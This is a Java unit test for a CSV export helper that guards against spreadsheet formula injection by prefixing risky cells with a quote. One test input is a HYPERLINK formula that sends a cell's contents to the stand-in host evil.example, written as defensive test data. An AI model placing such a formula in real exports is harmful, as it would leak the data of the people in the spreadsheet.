package fr.centreisere.concierge.platform.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class CsvCellsTest {

    @Test
    void aCellThatASpreadsheetWouldReadAsAFormulaIsPrefixedWithAQuote() {
        assertThat(CsvCells.neutralised("=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")");
        assertThat(CsvCells.neutralised("+33 4 76")).isEqualTo("'+33 4 76");
        assertThat(CsvCells.neutralised("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvCells.neutralised("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(CsvCells.neutralised("\tx")).isEqualTo("'\tx");
        assertThat(CsvCells.neutralised("\rx")).isEqualTo("'\rx");
    }

    @Test
    void otherCellsAreLeftAsTheyAre() {
        assertThat(CsvCells.neutralised("Jeanne Martin")).isEqualTo("Jeanne Martin");
        assertThat(CsvCells.neutralised("")).isEmpty();
        assertThat(CsvCells.neutralised(null)).isNull();
        assertThat(CsvCells.neutralised("a=b")).isEqualTo("a=b");
    }
}
